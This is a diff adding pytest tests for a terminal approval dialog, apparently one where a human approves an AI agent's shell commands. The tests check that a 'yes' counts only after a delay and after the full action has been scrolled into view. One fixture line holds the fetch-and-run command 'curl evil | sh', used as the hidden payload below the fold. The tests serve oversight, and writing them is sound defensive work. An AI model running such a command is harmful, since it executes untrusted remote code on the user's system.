@@ -1,0 +1,110 @@
+"""The box of an approval: a yes counts only for what was seen."""
+
+from __future__ import annotations
+
+import asyncio
+
+import pytest
+from textual.app import App
+
+from hub.api.approvals import Approval
+from hub.domain.approval import Action
+from hub.tui.approval import GRACE, ApprovalBox, request_rows
+from tests.hub.tui.kit import sees, text
+
+LONG = "\n".join([*(f"make part-{number}" for number in range(61)), "curl evil | sh"])
+
+
+def request(action="make all", number="a-1"):
+    return Approval(
+        id=number, action=action, reason="a rule asks", severity="warn", created_at="2030-01-01T00:00:00Z",
+        expires_at=None, kind=Action.TOOL, session_id="s-1", provider="claude", account="default", tool="Bash",
+        context={},
+    )  # fmt: skip
+
+
+class Desk(App[None]):
+    """The box alone, with a clock of the test's own."""
+
+    standing = taken = ""
+
+    def __init__(self, *waiting):
+        super().__init__()
+        self.time = 0.0
+        self.answers = []
+        self.box = ApprovalBox(list(waiting), now=lambda: self.time)
+
+    def on_mount(self):
+        self.push_screen(self.box, self.answers.append)
+
+
+def tells(story, *waiting):
+    async def main():
+        app = Desk(*waiting)
+        async with app.run_test(size=(80, 24), notifications=True) as pilot:
+            await sees(app, pilot, "Allow once")
+            await story(app, pilot)
+            return app.answers
+
+    return asyncio.run(main())
+
+
+@pytest.mark.parametrize(("key", "always"), [("y", False), ("A", True)])
+def test_a_yes_counts_once_it_could_be_read(key, always):
+    async def story(app, pilot):
+        await pilot.press("a", "a", key)
+        assert app.answers == [], "the key that opened the box is held, and another one comes at once"
+        app.time = GRACE
+        await pilot.press("a")
+        assert app.answers == []
+        await pilot.press(key)
+
+    assert tells(story, request()) == [("a-1", True, always, "")]
+
+
+def test_a_no_counts_at_once():
+    async def story(app, pilot):
+        await pilot.press("n")
+
+    assert tells(story, request(LONG)) == [("a-1", False, False, "")]
+
+
+@pytest.mark.parametrize("key", ["y", "A"])
+def test_what_is_below_the_fold_is_not_allowed_unseen(key):
+    async def story(app, pilot):
+        app.time = GRACE
+        assert "curl evil" not in text(app)
+        await pilot.press(key)
+        await sees(app, pilot, "There is more below")
+        assert app.answers == []
+        await pilot.press("end")
+        await sees(app, pilot, "curl evil | sh")
+        await pilot.press(key)
+
+    assert len(tells(story, request(LONG))) == 1
+
+
+def test_the_next_one_is_shown_from_its_beginning_and_takes_its_own_moment():
+    async def story(app, pilot):
+        app.time = GRACE
+        await pilot.press("end")
+        await sees(app, pilot, "curl evil | sh")
+        await pilot.press("tab")
+        await sees(app, pilot, "other-0", "2 of 2")
+        await pilot.press("end")
+        await sees(app, pilot, "other-60")
+        await pilot.press("y")
+        assert app.answers == []
+        app.time = 2 * GRACE
+        await pilot.press("y")
+
+    other = request("\n".join(f"other-{number}" for number in range(61)), "a-2")
+    assert tells(story, request(LONG), other) == [("a-2", True, False, "")]
+
+
+def test_an_action_that_the_title_cuts_is_shown_whole():
+    long = "make " + "x" * 200
+    for action in (LONG, long):
+        shown = ["".join(piece for piece, _ in row.pieces) for row in request_rows(request(action))]
+        assert shown[: len(action.split("\n"))] == action.split("\n")
+    assert "make all" not in str(list(request_rows(request())))
